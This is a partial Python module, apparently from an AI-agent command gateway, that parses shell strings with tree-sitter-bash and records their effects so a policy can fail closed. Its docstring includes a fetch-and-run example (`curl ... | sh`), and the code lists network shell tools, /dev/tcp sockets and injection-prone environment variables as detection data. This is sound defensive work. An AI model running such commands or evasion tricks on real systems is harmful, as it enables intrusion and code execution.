"""Shell command strings become Effects: the simple commands they run and what those commands touch.

tree-sitter-bash parses the string; this module walks the tree, does its own quote removal, unwraps
wrappers (sudo, env, xargs, find -exec, bash -c, eval, ...) and states plain facts for the programs it
knows. Anything it cannot follow is put in ``opaque`` with a reason, so the policy fails closed.

    ws = Workspace(Path("/repo"))
    fx = describe_command("cd src && rm -rf build; curl -s https://x.io/i.sh | sh", ws, cwd=Path("/repo"))
    [c.argv for c in fx.commands]   # [["cd", "src"], ["rm", "-rf", "build"], ["curl", ...], ["sh"]]
    fx.recursive_deletes            # ["src/build"]
    fx.network                      # [NetworkEffect(host="x.io", via="curl")]
    fx.opaque                       # ["downloaded/decoded content executed: sh reads its program from a pipe"]

Layout: the word model and quote removal; the tree walk (statements, redirects, substitutions); the
fact helpers (paths, hosts, packages); then one handler per known program, collected in ``HANDLERS``.
"""

from __future__ import annotations

import os
import re
import shlex
import threading
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from pathlib import Path

import tree_sitter_bash
from tree_sitter import Language, Node, Parser

from gateway.effects import network
from gateway.effects.paths import Workspace, suspicious_unicode
from gateway.errors import InvalidArguments
from gateway.types import CommandEffect, Effects, NetworkEffect, PackageEffect, Redirect

MAX_COMMAND_BYTES = 16 * 1024
MAX_NESTING = 16  # substitutions, wrappers and re-parsed strings inside one another
MAX_STRUCTURE = 64  # nested groups, subshells, loops and conditionals (bounds the recursion)

# One parser for the process: creating one costs more than parsing. tree-sitter parsers are not safe to
# share between threads, and the gateway may describe calls from worker threads, hence the lock.
_PARSER = Parser(Language(tree_sitter_bash.language()))
_PARSE_LOCK = threading.Lock()

_CONTROL = re.compile(r"[\x01-\x08\x0b-\x1f\x7f-\x9f]")
_INVISIBLE = re.compile("[\u200b-\u200d\u2060\ufeff\u00ad\u202a-\u202e\u2066-\u2069]")
# "r\<newline>m" is one word for bash but two for tree-sitter; refuse rather than mis-read it.
_MIDWORD_CONTINUATION = re.compile(r"[^\s\\;&|(){}<>]\\\n[^\s;&|(){}<>]")
_BRACE = re.compile(r"\{[^{}]*(?:,|\.\.)[^{}]*\}")
_GLOB = re.compile(r"[*?]|\[[^\]]+\]")
_VERSIONED = re.compile(r"^(python|pip|pypy|perl|ruby|php|node|nodejs)(\d+(\.\d+)*)?$")

# Targets that are streams, not files: writing to them changes nothing on disk.
_STREAMS = frozenset({"/dev/null", "/dev/stdin", "/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/zero", "-"})
_DEV_NET = re.compile(r"^/dev/(tcp|udp)/([^/]+)/([^/]*)$")

# Environment variables that change which program runs or what it loads, or how later words expand.
_ENV_RISKY = frozenset(
    {
        "PATH",
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "LD_AUDIT",
        "BASH_ENV",
        "ENV",
        "IFS",
        "SHELLOPTS",
        "BASHOPTS",
        "PS4",
        "PROMPT_COMMAND",
        "CDPATH",
        "HOME",
        "NODE_OPTIONS",
        "PYTHONSTARTUP",
        "PYTHONHOME",
        "PYTHONINSPECT",
        "PERL5OPT",
        "PERL5LIB",
        "PERLLIB",
        "RUBYOPT",
        "RUBYLIB",
        "GIT_SSH",
        "GIT_SSH_COMMAND",
        "GIT_EXEC_PATH",
        "GIT_PROXY_COMMAND",
        "GIT_ASKPASS",
        "SSH_ASKPASS",
        "SUDO_ASKPASS",
        "GIT_DIR",
        "GIT_WORK_TREE",
        "GIT_CONFIG",
        "GIT_CONFIG_GLOBAL",
        "GIT_CONFIG_SYSTEM",
        "GIT_CONFIG_PARAMETERS",
        "GIT_TEMPLATE_DIR",
        "LESSOPEN",
        "LESSCLOSE",
        "BROWSER",
    }
)
_ENV_RISKY_PREFIXES = ("LD_", "DYLD_", "GIT_CONFIG_", "BASH_FUNC_")
# Editors and pagers are commands too; these values are known to be harmless.
_ENV_COMMAND_VARS = frozenset(
    {"EDITOR", "VISUAL", "PAGER", "GIT_EDITOR", "GIT_PAGER", "GIT_SEQUENCE_EDITOR", "MANPAGER"}
)
_SAFE_COMMAND_VALUES = frozenset({"true", ":", "cat", "less", "more", "vi", "vim", "nano", ""})

_RESERVED = frozenset({"then", "else", "elif", "fi", "do", "done", "esac", "in", "}", "{", "function", "select"})
_PRIVILEGED = frozenset({"sudo", "su", "doas", "pkexec", "run0", "sudoedit"})
_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "fish", "rbash"})
_FETCHERS = frozenset(
    {
        "curl",
        "wget",
        "fetch",
        "nc",
        "ncat",
        "netcat",
        "socat",
        "telnet",
        "http",
        "https",
        "xh",
        "xhs",
        "aria2c",
        "lynx",
        "w3m",
        "links",
        "ftp",
        "tftp",
        "lftp",
        "ssh",
        "scp",
        "sftp",
    }
)
_DECOMPRESSORS = frozenset({"gunzip", "zcat", "bunzip2", "bzcat", "unxz", "xzcat", "unzstd", "zstdcat", "uudecode"})
# Programs that run another command we do not unwrap: say so instead of pretending to know.
_OPAQUE_RUNNERS = frozenset(
    {
        "at",
        "batch",
        "crontab",
        "systemd-run",
        "parallel",
        "script",
        "runuser",
        "chroot",
        "unshare",
        "nsenter",
        "flatpak-spawn",
        "firejail",
        "bwrap",
        "strace",
        "ltrace",
        "gdb",
        "valgrind",
        "expect",
        "coproc",
        "fc",
        "enable",
        "flock",
        "unbuffer",
        "faketime",
        "proot",
    }
)

Handler = Callable[["_Describer", "_Call"], None]


# --------------------------------------------------------------------------------------------------
# Words: quote removal done here, so "r''m", "\rm" and $'\x72m' all come out as "rm"
# --------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Word:
    """One shell word after quote removal.

    ``literal`` is False when the value depends on the run (expansions, substitutions, brace expansion);
    then ``value`` is a best-effort rendering and ``why`` says what is unknown. ``glob`` marks unquoted
    ``*``, ``?`` or ``[..]`` (the word may name many files). ``tainted`` marks a word whose substitutions
    run downloaded or decoded content.
    """

    value: str
    raw: str
    literal: bool = True
    glob: bool = False
    why: str = ""
    tainted: bool = False

    @staticmethod
    def of(value: str) -> Word:
        return Word(value=value, raw=value)

    def tail(self, start: int) -> Word:
        """The rest of this word from ``start`` (an attached option value such as ``-ofile``)."""
        return replace(self, value=self.value[start:])


def _text(node: Node) -> str:
    return (node.text or b"").decode("utf-8", errors="replace")


def _short(text: str, limit: int = 60) -> str:
    text = text.replace("\n", "\\n")
    return repr(text if len(text) <= limit else text[:limit] + "...")


def _has_unparsed_subst(text: str) -> bool:
    """An unescaped backquote or ``$(`` left inside text the parser called plain."""
    i = 0
    while i < len(text):
        ch = text[i]
        if ch == "\\":
            i += 2
            continue
        if ch == "`" or (ch == "$" and text[i + 1 : i + 2] == "("):
            return True
        i += 1
    return False


def _unquote_bare(text: str) -> tuple[list[tuple[str, bool]], str]:
    """Backslash removal in an unquoted word: pieces as (text, quoted) and why it is not literal ("")."""
    pieces: list[tuple[str, bool]] = []
    buf: list[str] = []
    why = ""
    i = 0
    while i < len(text):
        ch = text[i]
        if ch == "\\" and i + 1 < len(text):
            if buf:
                pieces.append(("".join(buf), False))
                buf = []
            if text[i + 1] != "\n":  # backslash-newline is a line continuation: it disappears
                pieces.append((text[i + 1], True))
            i += 2
            continue
        if ch == "`" or (ch == "$" and i + 1 < len(text) and (text[i + 1].isalnum() or text[i + 1] in "_{(@*#?$!-")):
            why = f"expansion the parser did not separate in {_short(text)}"
        buf.append(ch)
        i += 1
    if buf:
        pieces.append(("".join(buf), False))
    return pieces, why


def _dq_unescape(text: str) -> str:
    """Inside double quotes a backslash only escapes $ ` " \\ and newline."""
    return re.sub(r'\\([$`"\\\n])', lambda m: "" if m.group(1) == "\n" else m.group(1), text)


_ANSI_SIMPLE = {
    "a": "\a",
    "b": "\b",
    "e": "\x1b",
    "E": "\x1b",
    "f": "\f",
    "n": "\n",
    "r": "\r",
    "t": "\t",
    "v": "\v",
    "\\": "\\",
    "'": "'",
    '"': '"',
    "?": "?",
}


def _ansi_c(body: str) -> str:
    """Decode the escapes of a ``$'...'`` string the way bash does."""
    out: list[str] = []
    i = 0
    while i < len(body):
        ch = body[i]
        if ch != "\\" or i + 1 >= len(body):
            out.append(ch)
            i += 1
            continue
        nxt = body[i + 1]
        if nxt in _ANSI_SIMPLE:
            out.append(_ANSI_SIMPLE[nxt])
            i += 2
        elif nxt in "01234567":
            digits = re.match(r"[0-7]{1,3}", body[i + 1 :])
            assert digits is not None
            out.append(chr(int(digits.group(), 8) & 0xFF))
            i += 1 + len(digits.group())
        elif nxt in "xuU":
            width = {"x": 2, "u": 4, "U": 8}[nxt]
            digits = re.match(rf"[0-9A-Fa-f]{{1,{width}}}", body[i + 2 :])
            if digits is None:
                out.append("\\" + nxt)
                i += 2
                continue
            code = int(digits.group(), 16)
            out.append(chr(code) if code < 0x110000 else "\ufffd")
            i += 2 + len(digits.group())
        elif nxt == "c" and i + 2 < len(body):
            out.append(chr(ord(body[i + 2]) & 0x1F))
            i += 3
        else:
            out.append("\\" + nxt)
            i += 2
    return "".join(out)


# --------------------------------------------------------------------------------------------------
# The walk
# --------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class _Ctx:
    """Where a statement runs: how it was reached, how deep, and where its standard input comes from."""

    via: str = "direct"
    depth: int = 0  # substitutions, wrappers and re-parses
    nest: int = 0  # structural nesting
    stdin: str = "inherit"  # inherit | pipe | file | heredoc | herestring | socket | dup
    stdin_text: str | None = None  # literal heredoc or herestring text
    stdin_tainted: bool = False  # stdin carries downloaded or decoded bytes
    sudo: bool = False  # runs with elevated privileges


@dataclass(frozen=True)
class _Redir:
    redirect: Redirect
    kind: str  # in | out | dup | heredoc | herestring | socket
    path: Path | None = None
    text: str | None = None
    tainted: bool = False


@dataclass
class _Call:
    """One simple command about to be described by a handler."""

    name: str  # normalised program name: "rm", "python", "pip"
    words: list[Word]
    ctx: _Ctx
    redirects: list[_Redir] = field(default_factory=list)

    @property
    def args(self) -> list[Word]:
        return self.words[1:]

    @property
    def taints(self) -> bool:
        """Files this command writes hold downloaded or decoded bytes."""
        return self.ctx.stdin_tainted or _fetches([w.value for w in self.words])


@dataclass
class _Opts:
    flags: list[tuple[str, Word | None]] = field(default_factory=list)
    operands: list[Word] = field(default_factory=list)

    def has(self, *names: str) -> bool:
        return any(name in names for name, _ in self.flags)

    def values(self, *names: str) -> list[Word]:
        return [value for name, value in self.flags if name in names and value is not None]


_STATEMENT_TYPES = frozenset(
    {
        "program",
        "list",
        "pipeline",
        "command",
        "redirected_statement",
        "subshell",
        "compound_statement",
        "if_statement",
        "elif_clause",
        "else_clause",
        "while_statement",
        "for_statement",
        "c_style_for_statement",
        "case_statement",
        "case_item",
        "do_group",
        "negated_command",
        "function_definition",
        "variable_assignment",
        "variable_assignments",
        "declaration_command",
        "unset_command",
        "test_command",
        "comment",
        "file_redirect",
        "heredoc_redirect",
        "herestring_redirect",
        "ERROR",
    }
)
# Node types that are values, not statements: only their substitutions can run anything.
_VALUE_TYPES = frozenset(
    {
        "word",
        "number",
        "string",
        "raw_string",
        "ansi_c_string",
        "translated_string",
        "concatenation",
        "simple_expansion",
        "expansion",
        "arithmetic_expansion",
        "command_substitution",
        "process_substitution",
        "brace_expression",
        "extglob_pattern",
        "regex",
        "variable_name",
        "special_variable_name",
        "binary_expression",
        "unary_expression",
        "postfix_expression",
        "parenthesized_expression",
        "ternary_expression",
        "test_operator",
        "array",
        "subscript",
    }
)
_REDIRECT_TYPES = frozenset({"file_redirect", "heredoc_redirect", "herestring_redirect"})
_LEAF_TEXT_TYPES = frozenset({"word", "string_content", "extglob_pattern", "regex"})
_INPUT_KINDS = frozenset({"in", "heredoc", "herestring"})


class _Describer:
    """Accumulates the facts of one command string (and the strings re-parsed from it)."""

    def __init__(self, workspace: Workspace, cwd: Path) -> None:
        self.ws = workspace
        self.cwd: Path | None = cwd  # None once a cd could not be followed
        self.home = os.environ.get("HOME", "/root")
        self.reads: list[str] = []
        self.writes: list[str] = []
        self.creates: list[str] = []
        self.deletes: list[str] = []
        self.recursive_deletes: list[str] = []
        self.commands: list[CommandEffect] = []
        self.network: list[NetworkEffect] = []
        self.packages: list[PackageEffect] = []
        self.opaques: list[str] = []
        self.privileged = False
        self.tainted: set[Path] = set()  # files that hold downloaded or decoded bytes
        self.made_dirs: set[Path] = set()  # directories this string creates (so a later cd into them is known)

    # ---- results ---------------------------------------------------------------------------------

    def effects(self) -> Effects:
        return Effects(
            reads=_unique(self.reads),
            writes=_unique(self.writes),
            creates=_unique(c for c in self.creates if c not in self.writes),
            deletes=_unique(self.deletes),
            recursive_deletes=_unique(self.recursive_deletes),
            commands=self.commands,
            network=list({(n.host, n.via): n for n in self.network}.values()),
            privileged=self.privileged,
            packages=list({repr(p): p for p in self.packages}.values()),
            opaque=_unique(self.opaques),
        )

    def opaque(self, reason: str) -> None:
        self.opaques.append(reason)

    # ---- entry -----------------------------------------------------------------------------------

    def describe(self, text: str, ctx: _Ctx) -> None:
        """Parse ``text`` and walk it; the checks before parsing refuse what the parser could mis-read."""
        if ctx.depth > MAX_NESTING:
            self.opaque(f"nesting deeper than {MAX_NESTING} levels of substitutions or wrappers")
            return
        if "\x00" in text:
            self.opaque("command contains a NUL byte")
            return
        try:
            source = text.encode("utf-8")
        except UnicodeEncodeError:
            self.opaque("command is not valid UTF-8 text")
            return
        if len(source) > MAX_COMMAND_BYTES:
            self.opaque(f"command is longer than 16 KiB ({len(source)} bytes)")
            return
        if _CONTROL.search(text):
            self.opaque("command contains control characters")
        if _INVISIBLE.search(text):
            self.opaque("command contains invisible or bidirectional control characters")
        if _MIDWORD_CONTINUATION.search(text):
            self.opaque("line continuation inside a word (bash joins the word, the parser splits it)")
        with _PARSE_LOCK:
            tree = _PARSER.parse(source)
        root = tree.root_node
        if root.has_error:
            self.opaque(f"shell syntax error near {_short(_error_snippet(root))}")
        self._block(root, ctx)

    # ---- statements ------------------------------------------------------------------------------

    def _stmt(self, node: Node, ctx: _Ctx, redirs: list[_Redir]) -> None:
        kind = node.type
        if kind == "comment":
            return
        if kind not in _STATEMENT_TYPES:
            if kind not in _VALUE_TYPES:
                self.opaque(f"unsupported shell construct {kind}: {_short(_text(node))}")
            self._scan(node, ctx)
            return
        _STATEMENTS[kind](self, node, ctx, redirs)

    def _block(self, node: Node, ctx: _Ctx, redirs: list[_Redir] | None = None) -> None:
        """The named children of ``node`` in order; ``cmd &`` runs in the background (and in a subshell)."""
        children = node.children
        for i, child in enumerate(children):
            if not child.is_named or child.type == "comment":
                continue
            if i + 1 < len(children) and children[i + 1].type == "&":
                saved = self.cwd
                self._stmt(child, replace(ctx, via="background"), list(redirs or []))
                self.cwd = saved
            else:
                self._stmt(child, ctx, list(redirs or []))

    def _nested(self, ctx: _Ctx) -> _Ctx | None:
        if ctx.nest + 1 > MAX_STRUCTURE:
            self.opaque(f"shell structure nested deeper than {MAX_STRUCTURE} levels")
            return None
        return replace(ctx, nest=ctx.nest + 1)

    def _list(self, node: Node, ctx: _Ctx, redirs: list[_Redir]) -> None:
        # lists nest to the left ((a && b) || c): flatten without recursion, a long chain is deep
        items: list[Node] = []
        stack = [node]
        while stack:
            current = stack.pop()
            if current.type == "list":
                stack.extend(reversed([c for c in current.children if c.is_named and c.type != "comment"]))
            else:
                items.append(current)
        for item in items:
            self._stmt(item, ctx, redirs)

    def _pipeline(self, node: Node, ctx: _Ctx, redirs: list[_Redir]) -> None:
        self._pipe([(element, []) for element in _pipeline_elements(node)], ctx, redirs)

    def _pipe(self, elements: list[tuple[Node, list[_Redir]]], ctx: _Ctx, outer: list[_Redir]) -> None:
        """Run pipeline elements; once one of them fetches or decodes, every later stdin is tainted."""
        if not elements:
            return
        elements[0] = (elements[0][0], [r for r in outer if r.kind in _INPUT_KINDS] + elements[0][1])
        last = elements[-1]
        elements[-1] = (last[0], [r for r in outer if r.kind not in _INPUT_KINDS] + last[1])
        tainted = ctx.stdin_tainted
        for i, (element, redirs) in enumerate(elements):
            element_ctx = ctx
            if i > 0:
                element_ctx = replace(ctx, via="pipe", stdin="pipe", stdin_text=None, stdin_tainted=tainted)
            start = len(self.commands)
            saved = self.cwd  # every element runs in a subshell
            self._stmt(element, element_ctx, redirs)
            self.cwd = saved
            if any(_fetches(c.argv) for c in self.commands[start:]):
                tainted = True

    def _subshell(self, node: Node, ctx: _Ctx, redirs: list[_Redir]) -> None:
        inner = self._nested(ctx)
        if inner is None:
            return
        saved = self.cwd
        self._block(node, inner, redirs)
        self.cwd = saved

    def _group(self, node: Node, ctx: _Ctx, redirs: list[_Redir]) -> None:
        inner = self._nested(ctx)
        if inner is not None:
            self._block(node, inner, redirs)

    def _conditional(self, node: Node, ctx: _Ctx, redirs: list[_Redir]) -> None:
        """if / while / for / case: a cd inside may or may not have happened afterwards."""
        inner = self._nested(ctx)
        if inner is None:
            return
        before = self.cwd
        self._block(node, inner, redirs)
        if self.cwd != before:
            self.cwd = None

    def _function(self, node: Node, ctx: _Ctx, redirs: list[_Redir]) -> None:
        name_node = node.child_by_field_name("name")
        name = _text(name_node) if name_node is not None else ""
        if name in _COMMON_NAMES or name in HANDLERS:
            self.opaque(f"function definition redefines the command {name!r}")
        self._conditional(node, ctx, redirs)

    def _negated(self, node: Node, ctx: _Ctx, redirs: list[_Redir]) -> None:
        self._block(node, ctx, redirs)

    def _test(self, node: Node, ctx: _Ctx, redirs: list[_Redir]) -> None:
        self._scan(node, ctx)

    def _error(self, node: Node, ctx: _Ctx, redirs: list[_Redir]) -> None:
        # the syntax error is already in opaque; walk what the parser did recognise for extra facts
        self._block(node, ctx, redirs)

    def _assignments(self, node: Node, ctx: _Ctx, redirs: list[_Redir]) -> None:
        targets = [node] if node.type == "variable_assignment" else node.named_children
        for assignment in targets:
            if assignment.type == "variable_assignment":
                self._assignment(assignment, ctx, prefix_of=None)
            else:
                self._stmt(assignment, ctx, redirs)

    def _assignment(self, node: Node, ctx: _Ctx, prefix_of: str | None) -> str:
        """``NAME=value``: scan the value; flag names that change what runs. Returns "NAME=value"."""
        children = node.children
        name_node = children[0] if children else None
        name = _text(name_node) if name_node is not None else ""
        if name_node is not None and name_node.type == "subscript":
            name = _text(name_node.child_by_field_name("name") or name_node)
        value_nodes = [c for c in children[1:] if c.is_named]
        value = Word.of("")
        for value_node in value_nodes:
            value = self._word(value_node, ctx)
        self._check_env(name, value, prefix_of)
        # x='a[$(id)]'; echo $((x)) runs id: arithmetic re-evaluates variable text
        if value.literal and _has_unparsed_subst(value.value):
            self.opaque(f"variable {name} holds command-substitution text that arithmetic or eval could run")
        return f"{name}={value.value}"

    def _check_env(self, name: str, value: Word, prefix_of: str | None) -> None:
        where = f"for {prefix_of}" if prefix_of else "for the commands that follow"
        if name in _ENV_COMMAND_VARS:
            if not (value.literal and value.value in _SAFE_COMMAND_VALUES):
                self.opaque(f"{name}={value.value} names a program to run {where}")
        elif name in _ENV_RISKY or name.startswith(_ENV_RISKY_PREFIXES):
            self.opaque(f"{name}= changes what runs or how words expand {where}")

    def _declaration(self, node: Node, ctx: _Ctx, redirs: list[_Redir]) -> None:
        children = node.children
        keyword = children[0].type if children else "declare"
        argv = [keyword]
        for child in node.named_children:
            if child.type == "variable_assignment":
                argv.append(self._assignment(child, ctx, prefix_of=None))
            elif child.type != "comment":
                argv.append(self._word(child, ctx).value)
        self.commands.append(CommandEffect(argv=argv, redirects=[r.redirect for r in redirs], via=ctx.via))
        if keyword in ("declare", "typeset", "local") and any(a.startswith("-") and "n" in a for a in argv[1:]):
            self.opaque(f"{keyword} -n makes a name reference (indirect variables)")

    def _unset(self, node: Node, ctx: _Ctx, redirs: list[_Redir]) -> None:
        argv = ["unset", *(self._word(c, ctx).value for c in node.named_children if c.type != "comment")]
        self.commands.append(CommandEffect(argv=argv, redirects=[r.redirect for r in redirs], via=ctx.via))

    def _redirected(self, node: Node, ctx: _Ctx, redirs: list[_Redir]) -> None:
        """A statement with redirections (or a bare redirection: ``> f`` truncates f)."""
        body: Node | None = None
        own: list[Node] = []
        if node.type in _REDIRECT_TYPES:
            own = [node]
        else:
            for child in node.children:
                if child.type in _REDIRECT_TYPES:
                    own.append(child)
                elif child.is_named and child.type != "comment":
                    if body is not None:
                        self.opaque(f"unexpected statement layout: {_short(_text(node))}")
                    body = child
        pipe_tail: list[Node] = []
        list_tail: list[Node] = []
        infos: list[_Redir] = []
        for redirect_node in own:
            infos.extend(self._redirect(redirect_node, ctx, pipe_tail, list_tail))
        all_redirs = [*redirs, *infos]
        if body is None:
            self.commands.append(CommandEffect(argv=[], redirects=[r.redirect for r in all_redirs], via=ctx.via))
        elif pipe_tail:
            # `cat <<EOF | sh`: tree-sitter hangs the rest of the pipeline under the heredoc
            elements = [(body, infos)] + [(e, []) for tail in pipe_tail for e in _pipeline_elements(tail)]
            self._pipe(elements, ctx, list(redirs))
        elif body.type == "pipeline":
            # `a | b 2>&1`: tree-sitter puts the redirect on the pipeline, bash on its last command
            elements = [(e, []) for e in _pipeline_elements(body)]
            elements[-1] = (elements[-1][0], infos)
            self._pipe(elements, ctx, list(redirs))
        else:
            self._stmt(body, ctx, all_redirs)
        for tail in list_tail:
            self._stmt(tail, ctx, redirs)

    # ---- redirects -------------------------------------------------------------------------------

    def _redirect(self, node: Node, ctx: _Ctx, pipe_tail: list[Node], list_tail: list[Node]) -> list[_Redir]:
        if node.type == "file_redirect":
            return [self._file_redirect(node, ctx)]
        if node.type == "herestring_redirect":
            return [self._herestring(node, ctx)]
        return self._heredoc(node, ctx, pipe_tail, list_tail)

    def _file_redirect(self, node: Node, ctx: _Ctx) -> _Redir:
        fd: int | None = None
        op = ""
        targets: list[Node] = []
        for child in node.children:
            if child.type == "file_descriptor":
                fd = int(_text(child)) if _text(child).isdigit() else None
            elif not child.is_named and not op:
                op = child.type
            elif child.is_named:
                targets.append(child)
        if len(targets) != 1:
            self.opaque(f"redirection without a single target: {_short(_text(node))}")
            return _Redir(Redirect(op=op, target=_text(node), fd=fd), kind="dup")
        target = targets[0]
        if op in (">&", "<&") and (target.type == "number" or _text(target) == "-"):
            stdin_dup = op == "<&" or fd == 0
            return _Redir(Redirect(op=op, target=_text(target), fd=fd), kind="dup" if stdin_dup else "out")
        reading = op in ("<", "<&")
        if target.type == "process_substitution":
            start = len(self.commands)
            self._subst(target, ctx, "procsubst")
            tainted = any(_fetches(c.argv) for c in self.commands[start:])
            return _Redir(
                Redirect(op=op, target=_text(target), fd=fd), kind="in" if reading else "out", tainted=tainted
            )
        word = self._word(target, ctx)
        redirect = Redirect(op=op, target=word.value, fd=fd)
        if not word.literal:
            self.opaque(f"redirection target {_short(word.raw)} is not literal ({word.why})")
            return _Redir(redirect, kind="in" if reading else "out", tainted=word.tainted)
        net = _DEV_NET.match(word.value)
        if net:
            self._host(net.group(2), "bash")
            return _Redir(redirect, kind="socket", tainted=True)
        if word.value in _STREAMS or word.value.startswith(("/dev/fd/", "/proc/self/fd/")):
            return _Redir(redirect, kind="in" if reading else "out")
        call = _Call(name="redirect", words=[word], ctx=ctx)
        if reading:
            path = self.read(word, call)
            return _Redir(redirect, kind="in", path=path, tainted=path in self.tainted)
        path = self.write(word, call, modify=op == "<>")
        return _Redir(redirect, kind="out", path=path)

    def _herestring(self, node: Node, ctx: _Ctx) -> _Redir:
        values = [self._word(c, ctx) for c in node.named_children]
        word = values[0] if len(values) == 1 else Word(value=_text(node), raw=_text(node), literal=False)
        text = word.value + "\n" if word.literal else None
        return _Redir(Redirect(op="<<<", target=word.value), kind="herestring", text=text, tainted=word.tainted)

    def _heredoc(self, node: Node, ctx: _Ctx, pipe_tail: list[Node], list_tail: list[Node]) -> list[_Redir]:
        op = "<<"
        delimiter = ""
        quoted = False
        body: Node | None = None
        nested: list[_Redir] = []
        after_operator = False
        for child in node.children:
            kind = child.type
            if not child.is_named:
                if kind in ("<<", "<<-"):
                    op = kind
                else:
                    after_operator = kind in ("&&", "||", ";", "&")
                continue
            if kind == "heredoc_start":
                raw = _text(child)
                quoted = any(q in raw for q in "'\"\\")
                delimiter = raw.replace("'", "").replace('"', "").replace("\\", "")
            elif kind == "heredoc_body":
                body = child
            elif kind == "heredoc_end":
                pass
            elif kind in _REDIRECT_TYPES:
                nested.extend(self._redirect(child, ctx, pipe_tail, list_tail))
            elif kind == "pipeline" and not after_operator:
                pipe_tail.append(child)
            elif kind in _STATEMENT_TYPES:
                list_tail.append(child)
            else:
                self.opaque(f"unsupported heredoc layout ({kind}): {_short(_text(node))}")
        text = self._heredoc_text(body, ctx, quoted, strip_tabs=op == "<<-")
        return [_Redir(Redirect(op=op, target=delimiter), kind="heredoc", text=text), *nested]

    def _heredoc_text(self, body: Node | None, ctx: _Ctx, quoted: bool, strip_tabs: bool) -> str | None:
        """The literal text a heredoc feeds, or None when the shell expands something in it."""
        if body is None:
            return ""
        raw = _text(body)
        if quoted:
            text = raw
        else:
            # unquoted: $(..) in the body runs when the heredoc is read
            self._scan(body, ctx, heredoc=True)
            if _has_unparsed_subst(_gaps(body)):
                self.opaque("heredoc body has a command substitution the parser did not separate")
            if any(c.type != "heredoc_content" for c in body.named_children) or "$" in raw.replace("\\$", ""):
                return None
            text = _dq_unescape(raw.replace('\\"', '\\\\"'))
        if strip_tabs:
            text = "\n".join(line.lstrip("\t") for line in text.split("\n"))
        return text

    # ---- substitutions and words -----------------------------------------------------------------

    def _scan(self, node: Node, ctx: _Ctx, heredoc: bool = False) -> None:
        """Walk every substitution under ``node`` (iteratively: expressions nest deeply) and check expansions."""
        stack = [node]
        while stack:
            current = stack.pop()
            kind = current.type
            if kind == "command_substitution":
                self._subst(current, ctx, "heredoc" if heredoc else "subst")
                continue
            if kind == "process_substitution":
                self._subst(current, ctx, "procsubst")
                continue
            if kind in ("simple_expansion", "expansion"):
                self._check_expansion(current)
            elif kind in _LEAF_TEXT_TYPES and _has_unparsed_subst(_text(current)):
                self.opaque(f"command substitution the parser did not separate: {_short(_text(current))}")
            if current.child_count:
                stack.extend(reversed(current.children))

    def _check_expansion(self, node: Node) -> None:
        text = _text(node)
        names = [_text(c) for c in node.children if c.type == "variable_name"]
        if "IFS" in names:
            self.opaque(f"$IFS expansion changes how words split: {_short(text)}")
        if re.search(r"@P\}$", text):
            self.opaque(f"prompt expansion can run commands: {_short(text)}")

    def _subst(self, node: Node, ctx: _Ctx, via: str) -> None:
        if ctx.depth + 1 > MAX_NESTING:
            self.opaque(f"nesting deeper than {MAX_NESTING} levels of substitutions or wrappers")
            return
        inner = replace(ctx, via=via, depth=ctx.depth + 1, nest=ctx.nest + 1)
        if _text(node).startswith(">("):
            # >(cmd) reads what the outer command writes: data we cannot see
            inner = replace(inner, stdin="pipe", stdin_text=None)
        saved = self.cwd
        self._block(node, inner)
        self.cwd = saved

    def _word(self, node: Node, ctx: _Ctx) -> Word:
        start = len(self.commands)
        self._scan(node, ctx)
        tainted = any(_fetches(c.argv) for c in self.commands[start:])
        pieces: list[tuple[str, bool]] = []
        whys: list[str] = []
        self._pieces(node, pieces, whys)
        return self._make_word(_text(node), pieces, whys, tainted)

    def _pieces(self, node: Node, out: list[tuple[str, bool]], whys: list[str]) -> None:
        kind = node.type
        text = _text(node)
        if kind in ("word", "extglob_pattern"):
            pieces, why = _unquote_bare(text)
            out.extend(pieces)
            if why:
                whys.append(why)
        elif kind == "number":
            out.append((text, False))
        elif kind == "raw_string":
            out.append((text[1:-1], True))
        elif kind == "ansi_c_string":
            out.append((_ansi_c(text[2:-1]), True))
        elif kind == "string":
            self._dq_pieces(node, out, whys)
        elif kind in ("translated_string", "concatenation", "command_name"):
            end: int | None = None
            for child in node.children:
                if end is not None and child.start_byte != end:
                    whys.append(f"unexpected gap in word {_short(text)}")
                end = child.end_byte
                if child.is_named:
                    self._pieces(child, out, whys)
                elif kind != "translated_string":
                    out.append((_text(child), False))
                    whys.append(f"unsupported syntax {_short(_text(child))}")
        elif kind in ("simple_expansion", "expansion"):
            known = self._known_variable(node)
            out.append((text if known is None else known, known is not None))
            if known is None:
                whys.append(f"variable expansion {_short(text)}")
        else:
            out.append((text, False))
            whys.append(f"{kind.replace('_', ' ')} {_short(text)}")

    def _dq_pieces(self, node: Node, out: list[tuple[str, bool]], whys: list[str]) -> None:
        """A "..." string, rebuilt from the source: tree-sitter leaves some text (newlines) between children."""
        source = node.text or b""
        base = node.start_byte
        pos = 1
        literal: list[str] = []

        def flush() -> None:
            if literal:
                out.append((_dq_unescape("".join(literal)), True))
                literal.clear()

        for child in node.named_children:
            begin, end = child.start_byte - base, child.end_byte - base
            if begin > pos:
                literal.append(source[pos:begin].decode("utf-8", errors="replace"))
            if child.type == "string_content":
                literal.append(_text(child))
            else:
                flush()
                known = self._known_variable(child) if child.type in ("simple_expansion", "expansion") else None
                out.append((_text(child) if known is None else known, True))
                if known is None:
                    whys.append(f"{child.type.replace('_', ' ')} {_short(_text(child))}")
            pos = end
        closing = len(source) - 1 if source.endswith(b'"') and len(source) > 1 else len(source)
        if closing > pos:
            literal.append(source[pos:closing].decode("utf-8", errors="replace"))
        flush()

    def _known_variable(self, node: Node) -> str | None:
        """$HOME and $PWD have known values; every other expansion depends on the run."""
        named = node.named_children
        shape = [c.type for c in node.children]
        plain = shape in (["$", "variable_name"], ["${", "variable_name", "}"])
        if not plain or len(named) != 1:
            return None
        name = _text(named[0])
        if name == "HOME":
            return self.home
        if name == "PWD" and self.cwd is not None:
            return str(self.cwd)
        return None

    def _make_word(self, raw: str, pieces: list[tuple[str, bool]], whys: list[str], tainted: bool) -> Word:
        value = "".join(text for text, _ in pieces)
        bare = "".join(text if not quoted else "\x00" * len(text) for text, quoted in pieces)
        if _BRACE.search(bare):
            whys.append(f"brace expansion in {_short(raw)}")
        glob = bool(_GLOB.search(bare))
